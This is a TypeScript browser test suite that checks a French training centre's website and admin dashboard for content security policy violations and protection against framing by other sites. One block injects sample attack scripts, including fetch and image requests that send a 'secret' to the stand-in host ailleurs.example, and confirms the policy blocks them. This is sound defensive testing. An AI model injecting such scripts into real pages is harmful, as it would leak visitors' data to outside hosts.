import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:http';
import { centrePath } from '@centre/domain/centre';
import { afterAll, describe, expect, it } from 'vitest';
import { routes } from '../../web/src/app/routes.tsx';
import { detailsWords, listWords } from '../../web/src/content/dashboard/desk.ts';
import { exportFormats, exportWords } from '../../web/src/content/dashboard/exports.ts';
import { receiptScreen } from '../../web/src/content/receipt.ts';
import { suite } from '../suite.ts';
import { imageBytes } from '../factories/image-bytes.ts';
import { control, editArticle, rows } from './articles-tab-page.ts';
import { useBrowser, wide } from './browser.ts';
import { anApplicant, details, newTag, searchField } from './desk-page.ts';
import { applicant, filledForm, referenceOn, submitEnrolment } from './enrolment.ts';
import { cards, describePhoto, jpegFile } from './galerie-tab-page.ts';
import { articleCards } from './news-page.ts';
import { logIn, section, sections } from './staff.ts';
import { screensShown, watchedVisit } from './violations.ts';

const { visit } = useBrowser();
const watched = (path: string, width = wide) => watchedVisit(visit, path, width);

const addresses = routes
  .filter(({ path }) => !path.includes(':id'))
  .map(({ path }) => path.replace(':category', 'Technologie'));

describe('Nothing on a public screen breaks the content security policy:', () => {
  it.each(addresses)('%s, down to its end', async (path) => {
    const { page, shows } = await watched(path);
    await page.waitForLoadState('networkidle');
    // What is only loaded once it comes into sight, such as the map.
    await page.mouse.wheel(0, 100_000);
    await page.waitForLoadState('networkidle');
    await shows(path);
  });

  it('a page that is not there', async () => {
    const { page, shows, complaints } = await watched('/nulle-part');
    await page.getByRole('heading', { level: 1 }).waitFor();
    // The browser itself reports the address that leads nowhere.
    complaints.splice(0);
    await shows('a page that is not there');
  });

  it('a photo in large', async () => {
    const { page, shows } = await watched('/galerie');
    await page
      .getByRole('button', { name: /^Agrandir : / })
      .first()
      .click();
    await page
      .getByRole('dialog', { name: 'Photo en grand' })
      .getByRole('img')
      .first()
      .waitFor();
    await shows('a photo in large');
  });

  it('an article', async () => {
    const { page, shows } = await watched('/blog');
    await articleCards(page).first().getByRole('link', { name: 'Lire la suite' }).click();
    await page.getByRole('article').getByRole('heading').first().waitFor();
    await shows('an article');
  });

  it('the testimonials', async () => {
    const { page, shows } = await watched('/temoignages');
    await page.locator('[id^="temoignage-"]').first().waitFor();
    await shows('the testimonials');
  });

  it('the film', async () => {
    const { page, shows } = await watched(centrePath);
    await page.waitForLoadState('networkidle');
    for (const video of await page.locator('video').all()) {
      await video.evaluate((film: HTMLVideoElement) => {
        film.muted = true;
        return film.play();
      });
    }
    await shows('the film');
  });

  it('the form that is sent, its receipt and the file of it', async () => {
    const { page, complaints } = await filledForm(visit, applicant({ nom: newTag() }));
    await submitEnrolment(page);
    await referenceOn(page);
    const arriving = page.waitForEvent('download');
    await page.getByRole('button', { name: receiptScreen.download }).click();
    await arriving;
    expect(complaints).toEqual([]);
  });
});

describe('Nothing in the dashboard breaks the content security policy:', () => {
  async function dashboard(path: string, username = 'superadmin') {
    const opened = await watched(`/dashboard/${path}`);
    await opened.page.getByLabel("Nom d'utilisateur").waitFor();
    await opened.shows('the login');
    await logIn(opened.page, username);
    await sections(opened.page).waitFor();
    return opened;
  }

  it('every section', async () => {
    const { page, shows } = await dashboard('');
    for (const link of await sections(page).getByRole('link').all()) {
      await link.click();
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForTimeout(500);
      await shows(new URL(page.url()).pathname);
    }
  });

  it('a new article with its picture', async () => {
    const { page, shows } = await dashboard('articles');
    await rows(page).nth(1).waitFor();
    await page.getByRole('button', { name: 'Nouvel Article' }).first().click();
    await control(page, 'titre').waitFor();
    const file = jpegFile(await imageBytes({ width: 400, height: 300 }));
    await page.locator('input[type=file]').first().setInputFiles(file);
    await page
      .getByAltText(/aperçu/i)
      .first()
      .waitFor();
    await shows('a new article with its picture');
  });

  it('an article that is edited', async () => {
    const { page, shows } = await dashboard('articles');
    await rows(page).nth(1).waitFor();
    const titre = await rows(page)
      .nth(1)
      .locator('td:nth-child(2) > div:first-child')
      .innerText();
    await editArticle(page, titre.replace('Article principal', '').trim());
    await shows('an article that is edited');
  });

  it('the gallery, a photo that is added and one that is edited', async () => {
    const { page, shows } = await dashboard('galerie');
    await cards(page).first().waitFor();
    await describePhoto(page, jpegFile(await imageBytes({ width: 400, height: 300 })), 'Essai');
    await page.getByAltText('Aperçu de l’image').waitFor();
    await shows('a photo that is added');
    await cards(page)
      .first()
      .getByRole('button', { name: /^Modifier/ })
      .click();
    await page.getByRole('dialog').waitFor();
    await shows('a photo that is edited');
  });

  it('the testimonials, a new one and one that is edited', async () => {
    const { page, shows } = await dashboard('temoignages');
    await page.getByRole('button', { name: 'Nouveau témoignage' }).click();
    await page.locator('[name=prenom]').first().waitFor();
    await shows('a new testimonial');
    await page
      .getByRole('button', { name: /^Modifier/ })
      .first()
      .click();
    await page.getByRole('dialog').waitFor();
    await shows('a testimonial that is edited');
  });

  it('the users, a new one and one that is edited', async () => {
    const { page, shows } = await dashboard('users');
    await page.getByRole('button', { name: 'Nouvel utilisateur' }).click();
    await page.locator('[name=password]').first().waitFor();
    await shows('a new user');
    await page.getByRole('button', { name: 'Modifier lecture', exact: true }).click();
    await page.getByRole('dialog').waitFor();
    await shows('a user who is edited');
  });

  it('the applications, their details, their PDF and the exports', async () => {
    const someone = await anApplicant({ nom: newTag() });
    const { page, shows } = await dashboard(`inscriptions?fiche=${someone.id}`);
    await details(page, someone).getByText(someone.reference).waitFor();
    await shows('an application');
    const fiche = page.waitForEvent('download');
    await page.getByRole('button', { name: detailsWords.pdf }).click();
    await fiche;
    await shows('the PDF of an application');
    await page.keyboard.press('Escape');
    await searchField(page).fill(someone.form.nom);
    await page.getByRole('button', { name: listWords.details(someone.name) }).waitFor();
    for (const format of Object.values(exportFormats)) {
      const file = page.waitForEvent('download');
      await page.getByRole('button', { name: exportWords.menu, exact: true }).click();
      await page.getByRole('button', { name: format }).click();
      await file;
      await shows(format);
    }
    await section(page, 'Articles').click();
  });
});

describe('What somebody managed to put into a page', () => {
  const intrusions: Readonly<Record<string, string>> = {
    'script-src-elem': `const script = document.createElement('script');
      script.textContent = 'window.intruded = true';
      document.body.append(script);`,
    'script-src-attr': `const image = document.createElement('div');
      image.setAttribute('onclick', 'window.intruded = true');
      document.body.append(image);
      image.click();`,
    'connect-src': `fetch('https://ailleurs.example/?secret').catch(() => undefined);`,
    'img-src': `new Image().src = 'https://ailleurs.example/?secret';`,
    'frame-src': `const frame = document.createElement('iframe');
      frame.src = 'https://ailleurs.example/';
      document.body.append(frame);`,
    'form-action': `const form = document.createElement('form');
      form.action = 'https://ailleurs.example/';
      document.body.append(form);
      form.submit();`,
    'base-uri': `const base = document.createElement('base');
      base.href = 'https://ailleurs.example/';
      document.head.append(base);`,
    'object-src': `const object = document.createElement('object');
      object.data = '/emblem.svg';
      document.body.append(object);`,
    'worker-src': `try { new Worker('data:text/javascript,1'); } catch {}`,
    'style-src-elem': `const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://ailleurs.example/x.css';
      document.head.append(link);`,
  };
  it.each(Object.entries(intrusions))('meets %s', async (directive, script) => {
    const { page, violations, complaints } = await watched('/contact');
    await page.waitForLoadState('networkidle');
    expect(violations).toEqual([]);
    await page.evaluate(script);
    await expect.poll(() => violations.join()).toContain(directive);
    expect(await page.evaluate('window.intruded')).toBeUndefined();
    // The console says what was stopped.
    complaints.splice(0);
  });
});

describe('A site that puts pages into frames', () => {
  const open: Server[] = [];
  afterAll(() => {
    for (const server of open) server.close();
  });

  /** Another site, whose front page frames `address` beside a page of its own. */
  async function siteFraming(address: string): Promise<string> {
    const server = createServer(({ url }, response) => {
      const frames = `<iframe src="/own"></iframe><iframe src="${address}"></iframe>`;
      response.setHeader('Content-Type', 'text/html');
      response.end(url === '/own' ? '<h1>Own</h1>' : frames);
    });
    open.push(server);
    await new Promise<void>((resolve) => {
      server.listen(0, suite.host, resolve);
    });
    const { port } = server.address() as AddressInfo;
    return `http://${suite.host}:${port}/`;
  }

  it.each(['/', '/dashboard', '/inscription'])('shows its own, and not %s', async (path) => {
    const { page, complaints } = await visit('about:blank', wide);
    await page.goto(await siteFraming(`${suite.origin('hosting')}${path}`));
    const [, own, framed] = page.frames();
    await own?.locator('h1').waitFor();
    await expect.poll(() => framed?.url()).toMatch(/^chrome-error:/);
    // The browser says why.
    complaints.splice(0);
  });
});

afterAll(() => {
  console.log(`Screens shown without a violation of the policy: ${screensShown()}`);
});
